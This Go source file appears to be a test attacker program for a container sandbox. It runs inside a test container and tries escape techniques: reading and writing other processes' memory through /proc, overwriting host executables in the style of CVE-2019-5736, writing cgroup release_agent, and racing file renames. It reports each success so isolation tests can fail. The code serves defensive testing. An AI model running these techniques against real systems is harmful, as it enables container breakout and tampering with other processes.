// Command attacker runs in a container of a test and tries what its first argument says, once or
// until SIGTERM. It prints a line for each success, and at its end how often it has tried: a test
// whose attacker has not attacked must fail.
package main

import (
	"bytes"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
)

// tried counts attempts, in contrast to successes.
var tried atomic.Int64

// The victim gives up the privileges of the main thread, by which the kernel judges a process.
func init() { runtime.LockOSThread() }

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker WHAT [ARGS]")
		os.Exit(2)
	}
	attack, known := map[string]func([]string){
		"processes": processes, "exchange": exchange, "descriptors": descriptors, "release-agent": releaseAgent, "victim": victim,
	}[os.Args[1]]
	if !known {
		fmt.Fprintf(os.Stderr, "attacker: %q is unknown\n", os.Args[1])
		os.Exit(2)
	}
	attack(os.Args[2:])
	fmt.Println("TRIED", tried.Load())
}

// attacking tells the test that the attack has started, and returns what is false after SIGTERM.
func attacking() (goOn func() bool) {
	term := make(chan os.Signal, 1)
	signal.Notify(term, syscall.SIGTERM)
	var over atomic.Bool
	go func() { <-term; over.Store(true) }()
	fmt.Println("ready")
	return func() bool { return !over.Load() }
}

// planBase is where a process that carries out a plan has it; see runtime/zygote/zygote.h.
const planBase = 0x1_0000_0000

// processes looks at every other process for as long as it is there: its memory, descriptors,
// directories and program, as an attacker inside the container would.
func processes([]string) {
	var root syscall.Stat_t
	if err := syscall.Stat("/", &root); err != nil {
		report("stat: %v", err)
	}
	goOn := attacking()
	own := os.Getpid()
	buf := make([]byte, 64<<10)
	for goOn() {
		names, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range names {
			pid, _ := strconv.Atoi(filepath.Base(dir))
			if pid == own {
				continue
			}
			tried.Add(1)
			look(dir, &root, buf)
		}
		overwrite()
	}
}

// programs are those of other processes, held open: a program cannot be written to while it runs.
var programs = map[string]*os.File{}

// overwrite writes to the programs of processes that have ended (CVE-2019-5736).
func overwrite() {
	for exe, f := range programs {
		if w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0); err == nil {
			if _, err := w.WriteAt([]byte{0}, 0); err == nil {
				report("overwritten %s", exe)
			}
			w.Close()
			f.Close()
			delete(programs, exe)
		}
	}
}

// hold keeps the program of another process open. Its name is that of the open file: between the
// look at a process and the opening the process may have executed a program of its container.
func hold(f *os.File) {
	exe, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", f.Fd()))
	if err != nil || exe == "/bin/busybox" || exe == "/attacker" || programs[exe] != nil {
		f.Close()
		return
	}
	programs[exe] = f
	if !strings.HasPrefix(exe, "/memfd:") {
		report("held %s", filepath.Base(exe))
	}
}

func look(dir string, root *syscall.Stat_t, buf []byte) {
	lookInMemory(dir, buf)
	for _, link := range []string{"/root", "/cwd"} {
		var st syscall.Stat_t
		if err := syscall.Stat(dir+link, &st); err == nil && link == "/root" && (st.Dev != root.Dev || st.Ino != root.Ino) {
			report("root %s is another directory", dir)
		}
		if to, err := os.Readlink(dir + link); err == nil && to != "/" {
			report("%s is %s", link, to)
		}
	}
	if exe, err := os.Readlink(dir + "/exe"); err == nil {
		if !strings.HasPrefix(exe, "/memfd:") && exe != "/bin/busybox" && exe != "/attacker" {
			report("program of the host %s", exe)
		}
		if exe != "/bin/busybox" && exe != "/attacker" && programs[exe] == nil {
			if f, err := os.Open(dir + "/exe"); err == nil {
				hold(f)
			}
		}
	}
	fds, _ := os.ReadDir(dir + "/fd")
	for _, fd := range fds {
		if to, err := os.Readlink(dir + "/fd/" + fd.Name()); err == nil && !harmless(to) {
			report("descriptor %s %s", fd.Name(), to)
		}
	}
}

// lookInMemory searches a process for a plan, and spoils it.
func lookInMemory(dir string, buf []byte) {
	mem, err := os.OpenFile(dir+"/mem", os.O_RDWR, 0)
	if err != nil {
		return
	}
	defer mem.Close()
	// One that executed /proc/self/exe is a starter without a plan: it has zeros there.
	n, _ := mem.ReadAt(buf, planBase)
	if len(bytes.Trim(buf[:n], "\x00")) == 0 {
		return
	}
	report("memory")
	if i := bytes.Index(buf[:n], []byte("SECRET-OF-ANOTHER")); i >= 0 {
		report("secret")
	}
	// A plan is the business of the one child that has it.
	_, _ = mem.WriteAt(bytes.Repeat([]byte{0xff}, 1<<10), planBase+(8<<10))
}

// harmless says whether a container may have a descriptor of such a file. Its /dev/null is "/null"
// if its mounts go while the kernel reads the link.
func harmless(file string) bool {
	return file == "/null" || slices.ContainsFunc([]string{"pipe:", "socket:", "/dev/", "/proc", "anon_inode:"},
		func(prefix string) bool { return strings.HasPrefix(file, prefix) })
}

// exchange swaps two names as fast as it can.
func exchange(args []string) {
	goOn := attacking()
	a, b := append([]byte(args[0]), 0), append([]byte(args[1]), 0)
	for goOn() {
		if renameExchange(a, b) {
			tried.Add(1)
		}
	}
}

// descriptors lists what this process was given, beyond the standard streams.
func descriptors([]string) {
	for fd := range 1024 {
		var st syscall.Stat_t
		if syscall.Fstat(fd, &st) != nil {
			continue
		}
		tried.Add(1)
		to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		switch {
		case st.Mode&syscall.S_IFMT == syscall.S_IFDIR:
			report("a directory, %d %s", fd, to)
		case fd > 2 && !strings.HasPrefix(to, "anon_inode:"):
			report("%d %s", fd, to)
		}
	}
}

// releaseAgent looks for a cgroup that it can make the host's kernel execute a program from.
func releaseAgent([]string) {
	for name, text := range map[string]string{"release_agent": "/tmp/evil", "notify_on_release": "1"} {
		files, _ := filepath.Glob("/sys/fs/cgroup/*/" + name)
		for _, f := range files {
			tried.Add(1)
			if err := os.WriteFile(f, []byte(text), 0); err == nil {
				report("wrote %s", f)
			}
		}
	}
	tried.Add(1)
	if syscall.Mount("", "/sys/fs/cgroup", "", syscall.MS_REMOUNT|syscall.MS_BIND, "") == nil {
		report("remounted")
	}
	_ = os.Mkdir("/tmp/cg", 0o755)
	for _, kind := range []string{"rdma", "memory", "pids"} {
		tried.Add(1)
		if syscall.Mount("cgroup", "/tmp/cg", "cgroup", 0, kind) == nil {
			report("mounted %s", kind)
		}
	}
}

func report(format string, args ...any) { fmt.Printf("HIT "+format+"\n", args...) }
